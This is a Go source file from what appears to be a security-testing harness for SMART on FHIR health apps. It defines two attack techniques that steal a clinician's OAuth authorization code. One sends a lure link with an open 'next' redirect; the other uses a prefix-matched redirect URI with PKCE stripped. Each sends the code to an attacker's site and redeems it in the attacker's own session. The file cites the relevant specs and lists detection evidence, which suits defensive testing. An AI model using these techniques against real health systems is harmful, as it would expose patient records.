package attacker

import (
	"context"
	"fmt"
	"net/url"
)

var _ = register("SM-08", Technique{
	Variant: "link",
	Title:   "The link that opens an app says where its answer goes",
	Story: "Every part of an app answers at one callback, which passes the answer on to the part that began: the link that opens the app says which. The thief writes his own site " +
		"there and sends the link to a clinician. She signs in and picks a patient as always; the code goes to him, and he puts it into a sign-in of his own at the app.",
	Reads:    []string{"SMART App Launch 2.2, App protection", "RFC 9700 s4.11.1, s4.5"},
	Evidence: "At the app, a launch with an address of somebody else's in it, and a redirect from its callback to there; at the app or the server, a code from another browser than it was issued to.",
	Scene:    Scene{AppThere: true},
	Run: func(ctx context.Context, g Ground) error {
		s := newSite(g)
		own, err := beginAtApp(ctx, g)
		if err != nil {
			return err
		}
		t := g.Target()
		if err := g.Lure(t.AppLaunch + url.QueryEscape(t.FHIRBase) + "&next=" + url.QueryEscape(s.url+"/callback")); err != nil {
			return err
		}
		return spendAtApp(ctx, g, own, s)
	},
})

var _ = register("SM-08/callback", Technique{
	Variant: "callback",
	Title:   "The redirect URI says where the answer goes",
	Story: "The same callback takes the address to pass the answer on to from its own query. The thief writes an authorization request for the app whose redirect URI ends in his " +
		"site. Where the server takes one that only begins like what was registered, the app sends him the code.",
	Reads:    []string{"SMART App Launch 2.2, App protection", "RFC 9700 s4.1.1, s4.11.1"},
	Evidence: "Authorization requests with a callback that is longer than the registered one; redirects from the app's callback to a site it has nothing to do with.",
	Scene:    Scene{AppThere: true},
	Run: func(ctx context.Context, g Ground) error {
		s := newSite(g)
		t := g.Target()
		c := noCredentials
		c.ClientID, c.RedirectURI = t.AppID, t.AppCallback+"?"+url.Values{"next": {s.url + "/callback"}}.Encode()
		a, err := newApp(ctx, g, c)
		if err != nil {
			return err
		}
		a.meta.RequirePAR = false // a link of the thief's own
		own, err := beginAtApp(ctx, g)
		if err != nil {
			return err
		}
		z, err := a.authorize(ctx, "launch/patient openid fhirUser patient/*.rs", t.FHIRBase, func(form url.Values) {
			form.Set("aud", t.FHIRBase)
			form.Del("code_challenge")
			form.Del("code_challenge_method")
		})
		if err != nil {
			return err
		}
		if err := g.Lure(z.url); err != nil {
			return err
		}
		return spendAtApp(ctx, g, own, s)
	},
})

// beginAtApp has the thief open the honest app by itself with his own account, up to the answer, which his browser does
// not deliver: it is returned.
func beginAtApp(ctx context.Context, g Ground) (*url.URL, error) {
	t := g.Target()
	page, err := g.Browser().Visit(ctx, t.AppLaunch+url.QueryEscape(t.FHIRBase), t.AppCallback)
	if err != nil {
		return nil, err
	}
	u, err := url.Parse(page.URL)
	if err != nil || !page.Stopped {
		return nil, fmt.Errorf("expected the thief's own sign-in to come to %s, got to %s: %w", t.AppCallback, page.URL, err)
	}
	return u, nil
}

// spendAtApp puts a code that came to the thief's site into his own sign-in at the app.
func spendAtApp(ctx context.Context, g Ground, own *url.URL, s *site) error {
	code := s.code()
	if code == "" {
		return ErrStopped
	}
	_, err := g.Browser().Visit(ctx, withCode(own, code), "")
	return err
}
